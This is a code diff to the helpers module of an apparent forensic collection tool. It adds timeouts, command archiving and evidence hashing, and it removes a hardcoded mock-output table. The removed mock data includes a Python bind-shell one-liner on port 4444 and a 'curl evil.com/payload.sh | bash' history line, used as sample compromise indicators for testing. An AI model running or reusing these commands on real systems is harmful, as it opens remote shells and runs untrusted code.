@@ -1,11 +1,17 @@
+import html
 import os
-import plistlib
 import re
+import signal
 from dataclasses import dataclass
 from typing import List, Optional, Dict, Any, Union
 import subprocess
 import datetime
-import webbrowser
+import sys
+import time
+
+from .budget import active_token
+from .log_pipeline import LogPipeline, ConsoleSink, FileSink
+from .evidence import EvidenceManifest, KIND_LOG, PROGRESS_NAME, ProgressJournal, hash_file
 
 # --- Data classes ---
 @dataclass
@@ -29,55 +35,174 @@ class DiskInfo:
     serial: Optional[str] = None
     volume_name: Optional[str] = None
     device_identifier: Optional[str] = None
+    model: Optional[str] = None
+    removable: Optional[bool] = None
+
+def _kill_process_tree(process: subprocess.Popen):
+    """Kills a timed-out command and, on POSIX, every process in its session."""
+    try:
+        if os.name == "posix":
+            os.killpg(process.pid, signal.SIGKILL)
+        else:
+            process.kill()
+    except (ProcessLookupError, PermissionError):
+        process.kill()
 
 # --- Mock Application Instance ---
 class MockAppInstance:
-    def __init__(self):
+    def __init__(self, report_output_directory: str = "reports", log_pipeline: Optional[LogPipeline] = None,
+                 package: Optional["EvidencePackage"] = None, progress_path: Optional[str] = None):
         self.suspect_computer_name = "Test_Computer"
-        self.report_output_directory = "reports"
-        os.makedirs(self.report_output_directory, exist_ok=True)
-    def log_output(self, *args):
-        print(*args)
+        self.report_output_directory = report_output_directory
+        # With a package, output is streamed into one archive and the directory is only a naming root
+        self.package = package
+        if package is None:
+            os.makedirs(self.report_output_directory, exist_ok=True)
+        # Log lines are queued and written to the console (and any other sinks) in batches
+        self.log_pipeline = log_pipeline or LogPipeline([ConsoleSink()])
+        # Every artifact written to the output directory is hashed and recorded here
+        self.evidence = EvidenceManifest(self.report_output_directory, self.suspect_computer_name, package=package)
+        # Finished reports are journaled as they complete (beside the package, which cannot be appended to in place)
+        if progress_path is None:
+            progress_path = package.path + ".progress.jsonl" if package is not None else os.path.join(report_output_directory, PROGRESS_NAME)
+        self.progress = ProgressJournal(progress_path, self.evidence)
+    def log_output(self, *args, level: Optional[int] = None):
+        self.log_pipeline.log(" ".join(str(a) for a in args), level=level)
+    def record_progress(self, result: Any):
+        """Journals a finished report (a runner.ReportResult) so it is on disk even if the run is interrupted."""
+        self.progress.record(result.id, result.status, result.duration_s, result.detail)
+    def close(self):
+        """Flushes the log, writes the chain-of-custody manifest for the run and seals the package."""
+        self.log_pipeline.close()
+        if self.progress.close():
+            journal = os.path.join(self.report_output_directory, os.path.basename(self.progress.path))
+            if self.package is not None:
+                self.evidence.store_file(self.progress.path, journal, KIND_LOG)
+            else:
+                self.evidence.add(self.progress.path, KIND_LOG, **hash_file(self.progress.path))
+        for sink in self.log_pipeline.sinks:
+            if not isinstance(sink, FileSink):
+                continue
+            if self.package is not None:
+                # The run log is written beside the package while running, then added as its last artifacts
+                log_path = os.path.join(self.report_output_directory, os.path.basename(sink.path))
+                self.evidence.store_file(sink.path, log_path, KIND_LOG)
+            else:
+                self.evidence.add(sink.path, KIND_LOG, sink.sha256, sink.size)
+        self.evidence.write_manifest()
+        if self.package is not None:
+            self.package.close()
     def set_hostname(self, new_hostname):
         self.suspect_computer_name = new_hostname
+        self.evidence.hostname = new_hostname
 
 # --- Helpers class with mock/live switch ---
 class Helpers:
-    def __init__(self, use_mock: bool = True):
+    def __init__(self, use_mock: bool = True, mock_host: Optional["SyntheticHost"] = None, archive: Optional["CommandArchive"] = None):
         self.use_mock = use_mock
+        self._mock_host = mock_host
+        # A CommandArchive in "record" mode captures every command; in "replay" mode it answers them.
+        self.archive = archive
+        # Reports branch on this instead of sys.platform so replayed evidence is parsed as its source OS.
+        self.platform = archive.platform if archive and archive.replaying else sys.platform
+
+    @property
+    def mock_host(self) -> "SyntheticHost":
+        """The synthetic host backing mock mode, created on first use with the default seed."""
+        if self._mock_host is None:
+            from .mock_backend import SyntheticHost
+            self._mock_host = SyntheticHost()
+        return self._mock_host
+
+    def host_path(self, path: str) -> Optional[str]:
+        """
+        Maps an absolute path on the suspect host to where collectors should read it:
+        unchanged when live, inside the synthetic filesystem tree in mock mode, and
+        None when replaying (archives hold command output, not files).
+        """
+        if self.archive and self.archive.replaying:
+            return None
+        if self.use_mock:
+            return os.path.join(self.mock_host.filesystem_root(), path.replace(":", "").lstrip("/\\"))
+        return path
 
     def log_output(self, app_instance: Any, *args):
         if app_instance:
             app_instance.log_output(*args)
         else:
-            print("[Helpers Log]", *args)
+            print("[Helpers Log]", *args, file=sys.stderr)
 
     def run_command(self, command: str, check_shell: bool = False, app_instance: Optional[MockAppInstance] = None) -> str:
+        cmd_display = " ".join(command) if isinstance(command, list) else command
+        token = active_token()
+        timeout = token.remaining() if token is not None else None
+        if timeout is not None and timeout <= 0:
+            token.truncate(f"'{cmd_display}' not run")
+            self.log_output(app_instance, f"⏱ Not running '{cmd_display}': out of time")
+            return ""
+        if self.archive and self.archive.replaying:
+            self.log_output(app_instance, f"[REPLAY] Running command: {cmd_display}")
+            recorded = self.archive.replay(command)
+            if recorded is None:
+                self.log_output(app_instance, f"Command '{cmd_display}' not found in archive {self.archive.path}")
+                return ""
+            return self._handle_command_result(command, recorded["returncode"], recorded["stdout"], recorded["stderr"], app_instance)
+
+        started = datetime.datetime.now()
+        start_time = time.perf_counter()
         if self.use_mock:
-            cmd_display = " ".join(command) if isinstance(command, list) else command
             self.log_output(app_instance, f"[MOCK] Running command: {cmd_display}")
-            return self.mock_run_command(command)
-        else:
-            self.log_output(app_instance, f"[LIVE] Running command: {command}")
+            output = self.mock_run_command(command)
+            if self.archive:
+                self.archive.record(command, check_shell, 0, output, "", started, time.perf_counter() - start_time)
+            return output
+
+        self.log_output(app_instance, f"[LIVE] Running command: {command}")
+        try:
+            # A session of its own, so a timeout can kill the whole pipeline and not just the shell
+            process = subprocess.Popen(
+                command, shell=check_shell, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
+                encoding='utf-8', errors='ignore', start_new_session=os.name == "posix"
+            )
             try:
-                result = subprocess.run(
-                    command, shell=check_shell, capture_output=True, text=True,
-                    check=False, encoding='utf-8', errors='ignore'
-                )
-                if result.returncode != 0:
-                    self.log_output(app_instance, f"Command '{command}' failed with exit code {result.returncode}")
-                    if result.stdout: self.log_output(app_instance, f"STDOUT: {result.stdout.strip()}")
-                    if result.stderr: self.log_output(app_instance, f"STDERR: {result.stderr.strip()}")
-                    return ""
-                if result.stderr:
-                    self.log_output(app_instance, f"Command '{command}' produced stderr output: {result.stderr.strip()}")
-                return result.stdout
-            except FileNotFoundError:
-                self.log_output(app_instance, f"Command not found: '{command.split()[0]}'")
-                return ""
-            except Exception as e:
-                self.log_output(app_instance, f"An unexpected error occurred while running command '{command}': {e}")
-                return ""
+                stdout, stderr = process.communicate(timeout=timeout)
+                returncode = process.returncode
+            except subprocess.TimeoutExpired:
+                _kill_process_tree(process)
+                stdout, stderr = process.communicate()
+                token.truncate(f"'{cmd_display}' stopped after {timeout:.0f} s")
+                self.log_output(app_instance, f"⏱ '{cmd_display}' stopped after {timeout:.0f} s; keeping its partial output")
+                if self.archive:
+                    self.archive.record(command, check_shell, process.returncode, stdout, stderr, started, time.perf_counter() - start_time)
+                return stdout
+        except FileNotFoundError:
+            message = f"Command not found: '{cmd_display.split()[0]}'"
+            self.log_output(app_instance, message)
+            if self.archive:
+                self.archive.record(command, check_shell, 127, "", message, started, time.perf_counter() - start_time)
+            return ""
+        except Exception as e:
+            self.log_output(app_instance, f"An unexpected error occurred while running command '{command}': {e}")
+            return ""
+        if self.archive:
+            self.archive.record(command, check_shell, returncode, stdout, stderr, started, time.perf_counter() - start_time)
+        return self._handle_command_result(command, returncode, stdout, stderr, app_instance)
+
+    def _handle_command_result(self, command: str, returncode: int, stdout: str, stderr: str, app_instance: Optional[MockAppInstance] = None) -> str:
+        """Shared post-processing for live and replayed command results."""
+        if returncode != 0:
+            self.log_output(app_instance, f"Command '{command}' failed with exit code {returncode}")
+            if stdout: self.log_output(app_instance, f"STDOUT: {stdout.strip()}")
+            if stderr: self.log_output(app_instance, f"STDERR: {stderr.strip()}")
+            return ""
+        if stderr:
+            self.log_output(app_instance, f"Command '{command}' produced stderr output: {stderr.strip()}")
+        return stdout
+
+    def close(self):
+        """Finalizes the command archive, if one is attached."""
+        if self.archive:
+            self.archive.close()
 
     # --- NEW: Alias for backwards compatibility ---
     def run_cmd(self, command: str, check_shell: bool = False, app_instance: Optional[MockAppInstance] = None) -> str:
@@ -89,104 +214,8 @@ class Helpers:
 
 
     def mock_run_command(self, command: str) -> str:
-        # --- MOCK DATA FOR USER & SECURITY REPORTS ---
-        if isinstance(command, list):
-            command = " ".join(command)
-            
-        if "wmic useraccount get" in command:
-            return """
-Disabled=FALSE
-Name=Administrator
-SID=S-1-5-21-000000000-000000000-000000000-500
-Status=OK
-
-Disabled=TRUE
-Name=Guest
-SID=S-1-5-21-000000000-000000000-000000000-501
-Status=OK
-
-Disabled=FALSE
-Name=spencer
-SID=S-1-5-21-000000000-000000000-000000000-1001
-Status=OK
-
-Disabled=FALSE
-Name=hax0r
-SID=S-1-5-21-000000000-000000000-000000000-1002
-Status=Degraded
-"""
-        elif "net localgroup Administrators" in command:
-            return "Members\n-------------------------------------------------------------------------------\nAdministrator\nspencer\nhax0r\n"
-        elif "awk -F: " in command and "/etc/passwd" in command:
-            return """root 0 /root /bin/bash
-daemon 1 /usr/sbin /usr/sbin/nologin
-spencer 1000 /home/spencer /bin/bash
-hax0r 1001 /home/hax0r /bin/bash
-"""
-        elif command.startswith("dscl . -read /Users/"):
-            user = command.split('/')[-1].split(' ')[0]
-            if user == "root": return "UniqueID: 0\nNFSHomeDirectory: /var/root\nUserShell: /bin/sh\nRealName: System Administrator"
-            if user == "spencer": return "UniqueID: 501\nNFSHomeDirectory: /Users/spencer\nUserShell: /bin/zsh\nRealName: Spencer"
-            if user.startswith('_'): return f"UniqueID: 123\nNFSHomeDirectory: /var/empty\nUserShell: /usr/bin/false\nRealName: {user} Service"
-            return ""
-        elif "dscl . -list /Users" in command:
-            return "root\nspencer\n_spotlight\n_sshd\n"
-        elif "dscl . -read /Groups/admin GroupMembership" in command:
-            return "GroupMembership: root spencer"
-        elif "grep -E 'useradd|sshd.*(Accepted|Failed)'" in command:
-            return """
-Jul 25 10:00:01 my-linux-box sshd[1234]: Accepted password for spencer from 192.168.1.100 port 12345 ssh2
-Jul 25 10:05:00 my-linux-box useradd[2345]: new user: name=hax0r, UID=1001, GID=1001, home=/home/hax0r, shell=/bin/bash
-Jul 25 11:00:00 my-linux-box sshd[3456]: Failed password for root from 10.0.0.1 port 54321 ssh2
-"""
-        # --- MOCK DATA FOR NETWORK REPORTS ---
-        elif "ss -tulpn" in command:
-            return """
-State    Recv-Q   Send-Q     Local Address:Port      Peer Address:Port  Process
-LISTEN   0        128            0.0.0.0:22             0.0.0.0:* users:(("sshd",pid=123,fd=3))
-ESTAB    0        0          192.168.1.50:22        192.168.1.100:12345  users:(("sshd",pid=456,fd=4))
-LISTEN   0        4096           0.0.0.0:4444           0.0.0.0:* users:(("python3",pid=666,fd=3))
-"""
-        elif "lsof -i -P -n" in command:
-            return """
-COMMAND   PID    USER   FD   TYPE             DEVICE SIZE/OFF NODE NAME
-sshd      123    root    3u  IPv4 0xdeadbeef00000000      0t0  TCP *:22 (LISTEN)
-python3   666  spencer   3u  IPv4 0xdeadbeef11111111      0t0  TCP *:4444 (LISTEN)
-"""
-        elif "netstat -ano" in command:
-            return """
-  Proto  Local Address          Foreign Address        State           PID
-  TCP    0.0.0.0:22             0.0.0.0:0              LISTENING       1234
-  TCP    0.0.0.0:4444           0.0.0.0:0              LISTENING       666
-  TCP    192.168.1.50:49700     10.1.1.1:443           ESTABLISHED     5678
-"""
-        elif "sudo nethogs" in command or "sudo tcpdump" in command:
-            return "Refreshing:\n\nsshd[123]       192.168.1.50:22-192.168.1.100:12345    0.123\t0.456 KB/sec\npython3[666]      0.0.0.0:4444-10.0.0.5:54321                 1.234\t5.678 KB/sec\n"
-        
-        # --- MOCK DATA FOR PROCESS & MALWARE REPORTS ---
-        elif "ps aux | grep '[p]ython'" in command:
-            return "spencer   666  0.5  0.1 123456  7890 ?        S    Jul24   0:05 /usr/bin/python3 -c 'import socket,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.bind((\"0.0.0.0\",4444));s.listen(1);c,a=s.accept();os.dup2(c.fileno(),0);os.dup2(c.fileno(),1);os.dup2(c.fileno(),2);import pty; pty.spawn(\"/bin/bash\")'"
-        elif "ps aux" in command:
-            return """
-USER       PID  %CPU %MEM      VSZ    RSS   TT  STAT STARTED      TIME COMMAND
-root         1   0.0  0.0   167404   1156   ??  Ss   Jul24     0:00.01 /sbin/launchd
-spencer    666   0.5  0.1   123456   7890   ??  S    Jul24     0:05.00 /usr/bin/python3 -c '...'
-root      1234   0.1  0.5   456789   8765   ??  S    Jul24     1:01.23 /usr/sbin/sshd
-"""
-        elif "grep -E" in command and "~/.bash_history" in command:
-            return """
-curl http://evil.com/payload.sh | bash
-python3 -c 'import socket,os; ...'
-"""
-        elif "ls -la /tmp" in command:
-            return """
-total 8
-drwxrwxrwt  1 root    root    4096 Jul 25 19:50 .
-drwxr-xr-x  1 root    root    4096 Jul 25 10:00 ..
--rwxr-xr-x  1 hax0r   hax0r     88 Jul 25 10:05 payload.sh
-"""
-        # Fallback for other commands if needed
-        return ""
+        """Returns synthetic output for a command from the table-driven mock backend."""
+        return self.mock_host.run(command)
 
 
     def read_plist_file(self, file_path, app_instance=None):
@@ -200,8 +229,10 @@ drwxr-xr-x  1 root    root    4096 Jul 25 10:00 ..
         Generates an HTML report file, now with built-in filtering and sorting JS.
         """
         output_dir = app_instance.report_output_directory
-        os.makedirs(output_dir, exist_ok=True)
         file_path = os.path.join(output_dir, file_name)
+        token = active_token()
+        if token is not None and token.marker():
+            html_body = f'<p class="truncated"><strong>{html.escape(token.marker())}</strong></p>' + html_body
         timestamp = datetime.datetime.now().strftime("%Y-%m-%d %H:%M:%S")
 
         filter_html = ""
@@ -232,6 +263,7 @@ drwxr-xr-x  1 root    root    4096 Jul 25 10:00 ..
         pre {{ background-color: #eee; padding: 15px; border: 1px solid #ccc; border-radius: 5px; white-space: pre-wrap; word-wrap: break-word; font-family: "Courier New", Courier, monospace; }}
         .footer {{ text-align: center; margin-top: 30px; font-size: 0.9em; color: #777; }}
         .filter-container {{ margin-bottom: 15px; }}
+        .truncated {{ background-color: #fff3cd; border: 1px solid #e0b84c; border-radius: 5px; padding: 10px; }}
         #tableFilter {{ padding: 8px; width: 300px; border: 1px solid #ddd; border-radius: 4px; }}
         th.sortable {{ cursor: pointer; position: relative; }}
         th.sortable:hover {{ background-color: #e8e8e8; }}
@@ -313,15 +345,23 @@ drwxr-xr-x  1 root    root    4096 Jul 25 10:00 ..
 </html>
 """
         try:
-            with open(file_path, 'w', encoding='utf-8') as f:
-                f.write(html_template)
+            evidence = getattr(app_instance, "evidence", None)
+            if evidence is not None:
+                # Hashed while written and recorded in the chain-of-custody manifest
+                evidence.write_artifact(file_path, html_template)
+            else:
+                os.makedirs(output_dir, exist_ok=True)
+                with open(file_path, 'w', encoding='utf-8') as f:
+                    f.write(html_template)
             self.log_output(app_instance, f"Successfully generated report: {file_path}")
-        except IOError as e:
+        except (IOError, ValueError) as e:
             self.log_output(app_instance, f"Error writing report file {file_path}: {e}")
             return
 
-        if browser_preference != "None":
+        # Reports streamed into an evidence package have no file on disk to open
+        if browser_preference != "None" and getattr(evidence, "package", None) is None:
             try:
+                import webbrowser  # deferred: pulls in shlex/shutil and is only needed when opening reports
                 webbrowser.open('file://' + os.path.realpath(file_path))
             except Exception as e:
                 self.log_output(app_instance, f"Could not open report in browser: {e}")
\ No newline at end of file